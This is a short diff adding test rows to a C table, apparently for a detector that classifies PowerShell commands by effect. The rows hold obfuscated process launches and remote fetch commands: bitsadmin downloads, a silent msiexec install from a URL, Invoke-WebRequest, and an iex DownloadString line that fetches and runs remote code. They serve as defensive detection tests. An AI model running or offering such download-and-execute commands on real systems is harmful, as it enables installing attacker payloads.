@@ -85,6 +85,8 @@ static const struct row {
     { "index of", "powershell", "$s='xcalc';Start-Process $s.Substring($s.IndexOf('c'))", EFFECT_RUN, "command", "calc", KNOWN },
     { "some of a list", "powershell", "Start-Process (('c','x','a')|select -Index 0,2)", EFFECT_RUN, "command", "c a", KNOWN },
     { "a comment with a quote", "powershell", "&{# it's\nStart-Process calc}", EFFECT_RUN, "command", "calc", KNOWN },
+    { "a program that fetches", "powershell", "bitsadmin /transfer j /download http://192.0.2.1/a C:\\b.txt", EFFECT_DOWNLOAD, "path", "C:\\b.txt", KNOWN },
+    { "a package from afar", "powershell", "msiexec /q /i http://192.0.2.1/a", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
     { "comment", "powershell", "# Start-Process calc\n<# Start-Process calc #>", EFFECT_RUN, "command", "", NONE },
     { "what is fetched is not known", "powershell", "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", EFFECT_DOWNLOAD, "url", "http://192.0.2.1/a", KNOWN },
     { "Invoke-WebRequest", "powershell", "iwr -Uri http://192.0.2.1/a -OutFile b.txt", EFFECT_DOWNLOAD, "path", "b.txt", KNOWN },
